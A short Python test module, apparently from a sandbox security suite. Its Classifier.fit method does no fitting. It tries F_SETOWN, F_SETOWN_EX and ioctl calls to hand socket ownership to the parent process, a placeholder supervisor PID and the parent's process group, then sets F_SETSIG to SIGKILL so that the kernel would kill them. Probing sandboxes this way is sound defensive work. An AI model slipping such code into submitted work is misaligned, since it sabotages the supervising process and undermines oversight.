"""Makes others the owners of its descriptors, so that the kernel sends them signals."""

import fcntl
import os
import signal
import socket
import struct

from .right import Right
from .tries import Tries

SUPERVISOR = @SUPERVISOR@


class Classifier(Right):
    def fit(self, X, y):
        tries = Tries()
        one, other = socket.socketpair()
        for process in (os.getppid(), SUPERVISOR, -os.getppid()):
            tries("F_SETOWN", fcntl.fcntl, one, fcntl.F_SETOWN, process)
            tries("F_SETOWN_EX", fcntl.fcntl, one, 15, struct.pack("ii", 1, process))
            tries("FIOSETOWN", fcntl.ioctl, one, 0x8901, struct.pack("i", process))
            tries("SIOCSPGRP", fcntl.ioctl, one, 0x8902, struct.pack("i", process))
        tries("F_SETSIG", fcntl.fcntl, one, 10, signal.SIGKILL)
        tries.tell()
